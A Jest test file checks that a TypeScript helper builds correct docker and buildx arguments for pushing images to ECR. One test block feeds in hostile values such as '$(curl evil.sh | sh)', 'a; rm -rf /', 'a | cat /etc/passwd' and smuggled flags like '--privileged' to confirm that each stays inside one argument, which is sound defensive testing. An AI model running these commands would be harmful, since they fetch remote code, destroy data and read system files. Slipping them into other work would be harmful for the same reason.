import { describe, expect, test } from '@jest/globals';
import {
  buildxBuildArgs,
  classicBuildArgs,
  ecrCacheArgs,
  parseBuildxMetadata,
  pushedDigest,
  type BuildRequest,
  type BuildxOutput,
} from '../../src/builder/docker-args.js';
import { readFixture } from '../fixtures/paths.js';
import { parseBuildOptions } from '../../src/builder/build-options.js';

const fixture = (name: string): string => readFixture('build', name);

const REGISTRY = '123456789012.dkr.ecr.eu-west-1.amazonaws.com';
const CONTEXT = '/home/runner/work/app/app';
const IID = '/tmp/ecr-push-build-x/iid';
const METADATA = '/tmp/ecr-push-build-x/metadata.json';

function request(overrides: Partial<BuildRequest> = {}): BuildRequest {
  return {
    context: CONTEXT,
    buildArgs: [],
    labels: {},
    tags: [],
    platforms: [],
    cacheFrom: [],
    cacheTo: [],
    provenance: 'false',
    secrets: [],
    ...overrides,
  };
}

const FULL: BuildRequest = request({
  file: `${CONTEXT}/docker/Dockerfile.prod`,
  target: 'runtime',
  buildArgs: [
    ['VERSION', '1.2.3'],
    ['VERSION', '1.2.4'],
  ],
  labels: {
    'org.opencontainers.image.source': 'https://github.com/octo/app',
    'org.opencontainers.image.title': 'My app',
  },
  tags: [`${REGISTRY}/team/app:1.2.3`, `${REGISTRY}/team/app:latest`],
  platforms: ['linux/amd64', 'linux/arm64'],
  cacheFrom: ['type=registry,ref=cache'],
  cacheTo: ['type=registry,ref=cache,mode=max'],
  provenance: 'mode=max',
  secrets: ['id=npm,src=/tmp/s/npm', 'id=gh,env=GITHUB_TOKEN'],
});

describe('classicBuildArgs', () => {
  test('the least: the iidfile, then the context', () => {
    expect(classicBuildArgs(request(), IID)).toEqual(['build', `--iidfile=${IID}`, CONTEXT]);
  });

  test('every setting docker build knows, each joined to its flag; buildx-only ones left out', () => {
    expect(classicBuildArgs(FULL, IID)).toEqual([
      'build',
      `--file=${CONTEXT}/docker/Dockerfile.prod`,
      '--target=runtime',
      '--build-arg=VERSION=1.2.3',
      '--build-arg=VERSION=1.2.4',
      '--label=org.opencontainers.image.source=https://github.com/octo/app',
      '--label=org.opencontainers.image.title=My app',
      `--tag=${REGISTRY}/team/app:1.2.3`,
      `--tag=${REGISTRY}/team/app:latest`,
      `--iidfile=${IID}`,
      CONTEXT,
    ]);
  });
});

describe('buildxBuildArgs', () => {
  const files = { iidFile: IID, metadataFile: METADATA };

  test.each<[BuildxOutput['output'], string[]]>([
    ['push', ['--push']],
    ['load', ['--load']],
    ['cache', []],
  ])('the least, output %s', (output, flags) => {
    expect(buildxBuildArgs(request(), { ...files, output })).toEqual([
      'buildx',
      'build',
      '--provenance=false',
      `--iidfile=${IID}`,
      `--metadata-file=${METADATA}`,
      ...flags,
      CONTEXT,
    ]);
  });

  test('every setting, each joined to its flag', () => {
    expect(buildxBuildArgs(FULL, { ...files, output: 'push' })).toEqual([
      'buildx',
      'build',
      `--file=${CONTEXT}/docker/Dockerfile.prod`,
      '--target=runtime',
      '--build-arg=VERSION=1.2.3',
      '--build-arg=VERSION=1.2.4',
      '--label=org.opencontainers.image.source=https://github.com/octo/app',
      '--label=org.opencontainers.image.title=My app',
      `--tag=${REGISTRY}/team/app:1.2.3`,
      `--tag=${REGISTRY}/team/app:latest`,
      '--platform=linux/amd64,linux/arm64',
      '--cache-from=type=registry,ref=cache',
      '--cache-to=type=registry,ref=cache,mode=max',
      '--provenance=mode=max',
      '--secret=id=npm,src=/tmp/s/npm',
      '--secret=id=gh,env=GITHUB_TOKEN',
      `--iidfile=${IID}`,
      `--metadata-file=${METADATA}`,
      '--push',
      CONTEXT,
    ]);
  });

  test('a remote context is last, as it is', () => {
    const context = 'https://github.com/octo/app.git#main';
    expect(buildxBuildArgs(request({ context }), { ...files, output: 'load' }).at(-1)).toBe(context);
  });
});

describe('hostile values stay inside one argument', () => {
  const HOSTILE = [
    '$(curl evil.sh | sh)',
    '`id`',
    'a; rm -rf /',
    'a | cat /etc/passwd',
    'a && echo pwned',
    'line1\nline2',
    '--privileged',
    '-t',
    '--output=type=local,dest=/',
    ' --network=host',
    `'quoted' "double"`,
    '',
  ];

  /** Each argument after the subcommand is one `--flag=...`, except the context, last. */
  function expectOneArgumentEach(args: string[], first: number, expected: string[]): void {
    expect(args.at(-1)).toBe(CONTEXT);
    const options = args.slice(first, -1);
    for (const option of options) expect(option).toMatch(/^--[a-z-]+=/);
    for (const value of expected) expect(args.filter((arg) => arg === value)).toHaveLength(1);
    // Nothing else: no value became an argument of its own.
    expect(options.length).toBe(expected.length + (first === 1 ? 1 : 3));
  }

  test.each(HOSTILE)('%j as a label value, label key, build-arg value and tag', (value) => {
    const hostile = request({
      labels: { key: value, [`k${value}`]: 'v' },
      buildArgs: [['ARG', value]],
      tags: [`${REGISTRY}/team/app:${value}`],
    });
    const expected = [
      `--build-arg=ARG=${value}`,
      `--label=key=${value}`,
      `--label=k${value}=v`,
      `--tag=${REGISTRY}/team/app:${value}`,
    ];
    // classic: the iidfile; buildx: --provenance, --iidfile, --metadata-file (output 'cache' adds no flag).
    expectOneArgumentEach(classicBuildArgs(hostile, IID), 1, expected);
    expectOneArgumentEach(
      buildxBuildArgs(hostile, { iidFile: IID, metadataFile: METADATA, output: 'cache' }),
      2,
      expected,
    );
  });

  test('a label value starting with -- is joined to its flag', () => {
    const args = classicBuildArgs(request({ labels: { k: '--privileged' } }), IID);
    expect(args).toContain('--label=k=--privileged');
    expect(args).not.toContain('--privileged');
  });
});

describe('ecrCacheArgs', () => {
  test('a registry cache in the repository, in the OCI form ECR accepts', () => {
    expect(ecrCacheArgs(`${REGISTRY}/team/app:buildcache`)).toEqual({
      cacheFrom: `type=registry,ref=${REGISTRY}/team/app:buildcache`,
      cacheTo: `type=registry,ref=${REGISTRY}/team/app:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`,
    });
  });
});

describe('pushedDigest', () => {
  const hex = (c: string) => c.repeat(64);

  test('the digest docker push prints', () => {
    expect(pushedDigest(fixture('push-output.txt'))).toBe(
      'sha256:6d0f8a2c4e1b3a5d7f9e8c6b4a2d0f1e3c5b7a9d8f6e4c2a0b1d3f5e7a9c8b6d',
    );
  });

  test.each<[string, string | undefined]>([
    ['', undefined],
    ['e2eb06d8af82: Pushed\n', undefined],
    [
      `1.2.3: digest: sha256:${hex('a')} size: 735\nlatest: digest: sha256:${hex('b')} size: 735\n`,
      `sha256:${hex('b')}`,
    ],
    [`1.2.3: digest: sha256:${'a'.repeat(12)} size: 735`, undefined],
    [`1.2.3: digest: sha256:${hex('A')} size: 735`, undefined],
    [`1.2.3: digest: sha512:${hex('a')} size: 735`, undefined],
  ])('%j', (output, expected) => {
    expect(pushedDigest(output)).toBe(expected);
  });
});

describe('parseBuildxMetadata', () => {
  test('the manifest and config digests of the metadata file', () => {
    expect(parseBuildxMetadata(fixture('buildx-metadata.json'))).toEqual({
      digest: 'sha256:3c5a2e9b8d7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b',
      configDigest: 'sha256:8f1d3ebc5c1f2b8e6a7c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c',
    });
  });

  test.each<[string, object]>([
    ['', {}],
    ['not json', {}],
    ['null', {}],
    ['42', {}],
    ['[]', {}],
    ['{}', {}],
    ['{"buildx.build.ref": "builder/builder0/x"}', {}],
    ['{"containerimage.digest": "sha256:abc"}', { digest: 'sha256:abc' }],
    ['{"containerimage.config.digest": "sha256:def"}', { configDigest: 'sha256:def' }],
    ['{"containerimage.digest": "md5:abc", "containerimage.config.digest": 7}', {}],
    ['{"containerimage.digest": {"digest": "sha256:abc"}}', {}],
  ])('%j', (text, expected) => {
    expect(parseBuildxMetadata(text)).toStrictEqual(expected);
  });
});

describe('SOURCE_DATE_EPOCH', () => {
  const output = { iidFile: IID, metadataFile: METADATA, output: 'push' as const };
  test('buildx gets it as a build arg, so BuildKit stamps the image with the commit time', () => {
    expect(buildxBuildArgs(request({ sourceDateEpoch: 1714564800 }), output)).toContain(
      '--build-arg=SOURCE_DATE_EPOCH=1714564800',
    );
  });

  test("the user's own SOURCE_DATE_EPOCH wins, given once", () => {
    const args = buildxBuildArgs(
      request({ sourceDateEpoch: 1714564800, buildArgs: [['SOURCE_DATE_EPOCH', '0']] }),
      output,
    );
    expect(args.filter((arg) => arg.startsWith('--build-arg=SOURCE_DATE_EPOCH='))).toEqual([
      '--build-arg=SOURCE_DATE_EPOCH=0',
    ]);
  });

  test('the classic builder does not know it: not passed (no unused-arg warning)', () => {
    expect(classicBuildArgs(request({ sourceDateEpoch: 1714564800 }), IID).join(' ')).not.toContain(
      'SOURCE_DATE_EPOCH',
    );
  });
});

describe("build-push-action's options and a named builder reach docker joined to their flags", () => {
  const output = { iidFile: IID, metadataFile: METADATA, output: 'push' as const };
  const options = parseBuildOptions(
    (name) =>
      ({
        'no-cache': 'true',
        network: 'host',
        'build-contexts': 'src=../src',
        load: 'true',
        ulimit: 'nofile=10',
      })[name] ?? '',
  );

  test('buildx: --builder first, every option, --push and --load, the context last', () => {
    const args = buildxBuildArgs(
      request({ options, builderInstance: { name: 'k8s-builder', viaContext: false } }),
      output,
    );
    expect(args.slice(0, 3)).toEqual(['buildx', 'build', '--builder=k8s-builder']);
    for (const flag of ['--no-cache', '--network=host', '--build-context=src=../src', '--ulimit=nofile=10']) {
      expect(args).toContain(flag);
    }
    expect(args.slice(-3)).toEqual(['--push', '--load', CONTEXT]);
  });

  test('a docker-driver builder is its docker context: docker --context=NAME buildx build', () => {
    const args = buildxBuildArgs(request({ builderInstance: { name: 'ci-ctx', viaContext: true } }), output);
    expect(args.slice(0, 3)).toEqual(['--context=ci-ctx', 'buildx', 'build']);
    expect(args.join(' ')).not.toContain('--builder=');
  });

  test('classic: the options docker build knows, none of buildx’s', () => {
    const args = classicBuildArgs(request({ options }), IID);
    expect(args).toEqual(expect.arrayContaining(['--no-cache', '--network=host', '--ulimit=nofile=10']));
    expect(args.join(' ')).not.toMatch(/--build-context|--load|--builder/);
    expect(args.at(-1)).toBe(CONTEXT);
  });
});
